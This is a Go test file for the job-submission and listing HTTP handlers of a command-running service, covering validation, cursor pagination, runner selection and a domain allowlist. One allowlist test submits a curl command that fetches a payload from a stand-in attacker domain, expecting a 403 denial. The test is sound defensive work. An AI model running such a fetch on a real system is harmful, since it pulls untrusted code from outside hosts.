package handlers

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ternarybob/sandrun/internal/common"
)

func TestCreateJob(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{"command": "echo hello"}`)
	require.Equal(t, http.StatusCreated, code)

	assert.NotEmpty(t, body["request_id"])
	assert.NotEmpty(t, body["server_time_utc"])

	job, ok := body["job"].(map[string]any)
	require.True(t, ok)
	jobID, _ := job["job_id"].(string)
	assert.True(t, strings.HasPrefix(jobID, "job_"), "job_id %q", jobID)
	assert.Equal(t, "queued", job["status"])
	assert.NotEmpty(t, job["created_at"])

	links, ok := job["links"].(map[string]any)
	require.True(t, ok)
	assert.Equal(t, "/api/jobs/"+jobID, links["self"])
	assert.Equal(t, "/api/jobs/"+jobID+"/logs", links["logs"])
	assert.Equal(t, "/api/jobs/"+jobID+"/artifacts", links["artifacts"])

	// No runner selected yet at submit time
	assert.Nil(t, job["runner"])

	// The document landed on disk alongside the row
	doc, err := f.dir.ReadDocument(jobID)
	require.NoError(t, err)
	require.NotNil(t, doc)
	assert.Equal(t, "echo hello", doc.Command)
	assert.Equal(t, "1.0", doc.JobVersion)
}

func TestCreateJobEmptyCommand(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{"command": ""}`)
	assert.Equal(t, http.StatusBadRequest, code)
	assert.Equal(t, CodeValidationError, errorCode(t, body))
	assert.Equal(t, "command", errorField(body))
}

func TestCreateJobUnknownField(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{"command": "echo hi", "priority": 5}`)
	assert.Equal(t, http.StatusBadRequest, code)
	assert.Equal(t, CodeValidationError, errorCode(t, body))
	assert.Equal(t, "priority", errorField(body))
}

func TestCreateJobMalformedJSON(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{"command": `)
	assert.Equal(t, http.StatusBadRequest, code)
	assert.Equal(t, CodeValidationError, errorCode(t, body))
}

func TestCreateJobInvalidRunner(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{"command": "echo hi", "runner": {"requested": "mainframe"}}`)
	assert.Equal(t, http.StatusBadRequest, code)
	assert.Equal(t, CodeValidationError, errorCode(t, body))
	assert.Equal(t, "runner.requested", errorField(body))
}

func TestCreateJobRequestedRunner(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{"command": "echo hi", "runner": {"requested": "docker"}}`)
	require.Equal(t, http.StatusCreated, code)

	job := body["job"].(map[string]any)
	runner := job["runner"].(map[string]any)
	assert.Equal(t, "docker", runner["selected"])

	doc, err := f.dir.ReadDocument(job["job_id"].(string))
	require.NoError(t, err)
	require.NotNil(t, doc.Runner.SelectionReason)
	assert.Equal(t, "requested by user", *doc.Runner.SelectionReason)
}

func TestCreateJobAllowlistDenied(t *testing.T) {
	f := newFixture(t)

	code, body := f.createJob(t, `{
		"command": "curl https://evil.example.org/payload",
		"policy": {"allowlist_domains": ["good.example.com"]}
	}`)
	assert.Equal(t, http.StatusForbidden, code)
	assert.Equal(t, CodePolicyDenied, errorCode(t, body))
}

func TestCreateJobAllowlistAllowed(t *testing.T) {
	f := newFixture(t)

	code, _ := f.createJob(t, `{
		"command": "curl https://Good.Example.Com/data && echo done",
		"policy": {"allowlist_domains": ["good.example.com"]}
	}`)
	assert.Equal(t, http.StatusCreated, code)
}

func TestCreateJobAllowlistIgnoresNonURLCommand(t *testing.T) {
	f := newFixture(t)

	code, _ := f.createJob(t, `{
		"command": "echo no urls here",
		"policy": {"allowlist_domains": []}
	}`)
	assert.Equal(t, http.StatusCreated, code)
}

func TestGetJob(t *testing.T) {
	f := newFixture(t)

	code, created := f.createJob(t, `{
		"command": "echo hi",
		"policy": {"allowlist_domains": ["example.com"], "limits": {"max_runtime_seconds": 10}}
	}`)
	require.Equal(t, http.StatusCreated, code)
	jobID := created["job"].(map[string]any)["job_id"].(string)

	req := httptest.NewRequest(http.MethodGet, "/api/jobs/"+jobID, nil)
	rec := httptest.NewRecorder()
	f.jobs.GetJobHandler(rec, req, jobID)

	require.Equal(t, http.StatusOK, rec.Code)
	body := decodeBody(t, rec)
	job := body["job"].(map[string]any)
	assert.Equal(t, jobID, job["job_id"])
	assert.Equal(t, "echo hi", job["command"])

	// The stored time_limit_seconds surfaces under its public name
	policy := job["policy"].(map[string]any)
	limits := policy["limits"].(map[string]any)
	assert.Equal(t, float64(10), limits["max_runtime_seconds"])

	links := job["links"].(map[string]any)
	assert.Equal(t, "/api/jobs/"+jobID+"/logs", links["logs"])
	assert.Equal(t, "/api/jobs/"+jobID+"/artifacts", links["artifacts"])
}

func TestGetJobNotFound(t *testing.T) {
	f := newFixture(t)

	req := httptest.NewRequest(http.MethodGet, "/api/jobs/job_missing", nil)
	rec := httptest.NewRecorder()
	f.jobs.GetJobHandler(rec, req, "job_missing")

	assert.Equal(t, http.StatusNotFound, rec.Code)
	assert.Equal(t, CodeNotFound, errorCode(t, decodeBody(t, rec)))
}

func TestGetJobMissingDocument(t *testing.T) {
	f := newFixture(t)
	f.insertRow(t, "job_rowonly", common.TruncateToSecond(time.Now()))

	req := httptest.NewRequest(http.MethodGet, "/api/jobs/job_rowonly", nil)
	rec := httptest.NewRecorder()
	f.jobs.GetJobHandler(rec, req, "job_rowonly")

	assert.Equal(t, http.StatusNotFound, rec.Code)
}

func TestListJobsPagination(t *testing.T) {
	f := newFixture(t)

	base := common.TruncateToSecond(time.Now())
	f.insertRow(t, "job_a", base)
	f.insertRow(t, "job_b", base.Add(time.Second))
	f.insertRow(t, "job_c", base.Add(2*time.Second))

	req := httptest.NewRequest(http.MethodGet, "/api/jobs?limit=2", nil)
	rec := httptest.NewRecorder()
	f.jobs.ListJobsHandler(rec, req)

	require.Equal(t, http.StatusOK, rec.Code)
	body := decodeBody(t, rec)
	items := body["items"].([]any)
	require.Len(t, items, 2)
	assert.Equal(t, "job_c", items[0].(map[string]any)["job_id"])
	assert.Equal(t, "job_b", items[1].(map[string]any)["job_id"])

	cursor, ok := body["next_cursor"].(string)
	require.True(t, ok, "expected next_cursor on a truncated page")

	req = httptest.NewRequest(http.MethodGet, "/api/jobs?limit=2&cursor="+cursor, nil)
	rec = httptest.NewRecorder()
	f.jobs.ListJobsHandler(rec, req)

	require.Equal(t, http.StatusOK, rec.Code)
	body = decodeBody(t, rec)
	items = body["items"].([]any)
	require.Len(t, items, 1)
	assert.Equal(t, "job_a", items[0].(map[string]any)["job_id"])
	assert.Nil(t, body["next_cursor"])
}

func TestListJobsStatusFilter(t *testing.T) {
	f := newFixture(t)
	f.insertRow(t, "job_q", common.TruncateToSecond(time.Now()))

	req := httptest.NewRequest(http.MethodGet, "/api/jobs?status=succeeded", nil)
	rec := httptest.NewRecorder()
	f.jobs.ListJobsHandler(rec, req)

	require.Equal(t, http.StatusOK, rec.Code)
	body := decodeBody(t, rec)
	assert.Empty(t, body["items"])
}

func TestListJobsInvalidStatus(t *testing.T) {
	f := newFixture(t)

	req := httptest.NewRequest(http.MethodGet, "/api/jobs?status=paused", nil)
	rec := httptest.NewRecorder()
	f.jobs.ListJobsHandler(rec, req)

	assert.Equal(t, http.StatusBadRequest, rec.Code)
	body := decodeBody(t, rec)
	assert.Equal(t, CodeValidationError, errorCode(t, body))
	assert.Equal(t, "status", errorField(body))
}

func TestListJobsInvalidLimit(t *testing.T) {
	f := newFixture(t)

	for _, limit := range []string{"0", "201", "abc", "-1"} {
		req := httptest.NewRequest(http.MethodGet, "/api/jobs?limit="+limit, nil)
		rec := httptest.NewRecorder()
		f.jobs.ListJobsHandler(rec, req)

		assert.Equal(t, http.StatusBadRequest, rec.Code, "limit=%s", limit)
		assert.Equal(t, "limit", errorField(decodeBody(t, rec)))
	}
}

func TestListJobsInvalidCursor(t *testing.T) {
	f := newFixture(t)

	req := httptest.NewRequest(http.MethodGet, "/api/jobs?cursor=!!!", nil)
	rec := httptest.NewRecorder()
	f.jobs.ListJobsHandler(rec, req)

	assert.Equal(t, http.StatusBadRequest, rec.Code)
	assert.Equal(t, "cursor", errorField(decodeBody(t, rec)))
}

func TestListJobsRejectsBody(t *testing.T) {
	f := newFixture(t)

	req := httptest.NewRequest(http.MethodGet, "/api/jobs", strings.NewReader(`{"limit": 5}`))
	rec := httptest.NewRecorder()
	f.jobs.ListJobsHandler(rec, req)

	assert.Equal(t, http.StatusBadRequest, rec.Code)
	body := decodeBody(t, rec)
	assert.Equal(t, CodeValidationError, errorCode(t, body))
	assert.Equal(t, "body", errorField(body))
}

func TestDeniedDomain(t *testing.T) {
	domain, ok := deniedDomain("curl https://a.example.com https://b.example.com", []string{"a.example.com"})
	assert.False(t, ok)
	assert.Equal(t, "b.example.com", domain)

	_, ok = deniedDomain("curl http://a.example.com/path", []string{"a.example.com"})
	assert.True(t, ok)

	// Hosts compare case-insensitively
	_, ok = deniedDomain("curl https://A.Example.COM", []string{"a.example.com"})
	assert.True(t, ok)

	// No URLs in the command means nothing to deny
	_, ok = deniedDomain("echo hello", []string{})
	assert.True(t, ok)

	// Ports are part of the extracted host
	domain, ok = deniedDomain("curl https://a.example.com:8443/x", []string{"a.example.com"})
	assert.False(t, ok)
	assert.Equal(t, "a.example.com:8443", domain)
}
